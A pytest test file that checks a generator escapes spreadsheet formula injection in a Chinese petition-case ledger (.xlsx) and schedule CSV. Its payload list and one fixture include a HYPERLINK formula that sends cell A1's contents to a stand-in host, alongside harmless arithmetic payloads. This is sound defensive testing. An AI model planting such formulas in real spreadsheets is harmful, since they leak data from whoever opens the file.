"""Spreadsheet formula injection (OWASP 'CSV injection'): a case or schedule value that
starts with = + - @ (or a tab or carriage return) must open as text, in the .xlsx
ledger and in data/schedule.csv."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.casework.ledger import write_ledger
from generator.pipeline import prepare
from generator.spreadsheet_cells import formula_safe, formula_safe_cells
from tests.conftest import FIXTURES, REPO, edit
from tests.site.conftest import TODAY, build_sample

PAYLOADS = ['=HYPERLINK("http://x.invalid/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_start_is_neutralised(value: str) -> None:
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "2026-0001", "", "（一）", "示例市=信访局"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert formula_safe(value) == value


def test_a_row_at_a_time_is_each_cell_alone() -> None:
    row = [*PAYLOADS, "张三", "", "（一）", "示例市=信访局", "'已引", "1-2"]
    assert formula_safe_cells(row) == [formula_safe(cell) for cell in row]
    assert formula_safe_cells(["=1", "2"]) == ["'=1", "2"]


def test_ledger_cells_are_text_not_formulas(tmp_path: Path) -> None:
    root = tmp_path / "content"
    shutil.copytree(FIXTURES / "minimal", root)
    case = root / "cases/2026-0001.yaml"
    edit(case, "name: 张三丰", "name: '=HYPERLINK(\"http://x.invalid\",\"点我\")'")
    edit(case, "request: 要求补缴社会保险", "request: '@SUM(1,2)'")
    edit(case, "handler: 测试市人力资源和社会保障局", "handler: '+1+1'")
    output = tmp_path / "out" / "台账.xlsx"
    write_ledger(prepare(root), output, today=dt.date(2026, 11, 24))
    sheet = load_workbook(output).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    for column in ("信访人", "诉求", "承办单位"):
        assert row[column].data_type == "s", column
        assert str(row[column].value).startswith("'"), column
    assert row["信访人"].value == "'=HYPERLINK(\"http://x.invalid\",\"点我\")"


@pytest.mark.slow
def test_schedule_csv_cells_are_text_not_formulas(tmp_path: Path) -> None:
    root = tmp_path / "content"
    shutil.copytree(REPO / "content", root)
    leaders = root / "leaders.yaml"
    text = leaders.read_text(encoding="utf-8")
    names = [line for line in text.splitlines() if line.strip().startswith("name:")]
    for number, line in enumerate(names):  # every leader, so whichever receives first starts a cell with it
        edit(leaders, line, line.split("name:")[0] + f"name: '=1+{number}'")
    built = build_sample(tmp_path / "site", TODAY, root)
    rows = list(csv.reader(io.StringIO((built.site / "data/schedule.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("=1+0" in cell for cell in cells)
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
